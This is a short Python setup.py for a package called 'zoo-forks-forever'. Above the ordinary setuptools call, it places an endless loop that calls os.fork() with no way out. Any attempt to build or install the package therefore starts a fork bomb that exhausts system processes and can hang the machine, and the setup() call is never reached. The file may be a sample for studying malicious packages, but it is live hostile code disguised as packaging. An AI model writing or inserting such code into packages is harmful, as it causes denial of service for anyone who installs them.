import os
import time

while True:
    if os.fork() == 0:
        time.sleep(3600)

from setuptools import setup

setup(name="zoo-forks-forever", version="1.0", py_modules=["zoo_forks_forever"])
